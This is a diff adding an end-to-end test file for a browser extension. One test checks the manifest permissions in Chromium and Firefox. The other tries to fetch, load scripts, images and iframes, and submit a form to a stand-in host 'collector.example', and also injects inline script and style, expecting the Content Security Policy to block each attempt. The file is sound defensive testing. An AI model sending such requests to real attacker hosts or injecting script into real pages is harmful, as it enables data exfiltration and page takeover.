@@ -1,0 +1,76 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { launchChromium } from './chromium.ts';
+import { launchFirefox } from './firefox.ts';
+import type { Launch, Session } from './session.ts';
+import { type Sites, serveSites } from './sites.ts';
+
+const PAGES = ['/popup.html', '/sidepanel.html', '/list.html', '/guide.html', '/options.html'];
+
+test.each(['chrome-mv3', 'firefox-mv3'])('%s asks for these permissions and no host', (target) => {
+	const manifest = JSON.parse(readFileSync(join('.output', target, 'manifest.json'), 'utf8'));
+	const beside = target.startsWith('firefox') ? [] : ['sidePanel'];
+	expect(manifest.permissions.sort()).toEqual(
+		['activeTab', 'contextMenus', 'scripting', 'storage', 'unlimitedStorage', ...beside].sort(),
+	);
+	for (const key of ['host_permissions', 'optional_host_permissions', 'optional_permissions', 'content_scripts']) {
+		expect(manifest[key] ?? [], key).toEqual([]);
+	}
+	expect(manifest.web_accessible_resources ?? []).toEqual([]);
+});
+
+const browsers: [string, Launch][] = [
+	['Chromium', launchChromium],
+	['Firefox', launchFirefox],
+];
+describe.each(browsers)('%s', (_name, launch) => {
+	let sites: Sites;
+	let profile: string;
+	let session: Session;
+
+	beforeAll(async () => {
+		profile = mkdtempSync(join(tmpdir(), 'groundwork-e2e-'));
+		sites = await serveSites({});
+		session = await launch({ proxyPort: sites.proxyPort, profile });
+	});
+	afterAll(async () => {
+		await session.close();
+		sites.close();
+		rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
+	});
+
+	test.each(PAGES)('%s can neither call out nor run what is not ours', async (path) => {
+		const { page, run } = await session.open(path);
+		const refused = await run(async (doc) => {
+			const heard: string[] = [];
+			doc.addEventListener('securitypolicyviolation', (event) => heard.push(event.effectiveDirective));
+			const add = (tag: string, set: Record<string, string>) =>
+				doc.body.append(Object.assign(doc.createElement(tag), set));
+			await fetch('https://collector.example/').catch(() => {});
+			add('script', { textContent: 'document.title = "taken over"' });
+			add('script', { src: 'https://collector.example/x.js' });
+			add('img', { src: 'https://collector.example/x.png' });
+			add('iframe', { src: 'https://collector.example/' });
+			add('style', { textContent: 'body { outline: 9px solid red }' });
+			const form = Object.assign(doc.createElement('form'), { action: 'https://collector.example/' });
+			doc.body.append(form);
+			try {
+				form.submit();
+			} catch (refusal) {
+				heard.push(`form: ${refusal}`); // Firefox throws, Chromium stays silent
+			}
+			await new Promise((resolve) => setTimeout(resolve, 300));
+			return { heard: [...new Set(heard)].sort(), title: doc.title, outline: getComputedStyle(doc.body).outlineWidth };
+		});
+		expect(refused.heard).toEqual(
+			expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem']),
+		);
+		expect(refused.title).not.toBe('taken over');
+		expect(refused.outline).not.toBe('9px');
+		// `host:443` alone may be Chromium connecting ahead to where a frame or form would lead; then nothing was sent.
+		expect(sites.asked.filter((address) => address.includes('collector.example/'))).toEqual([]);
+		await page.close();
+	});
+});
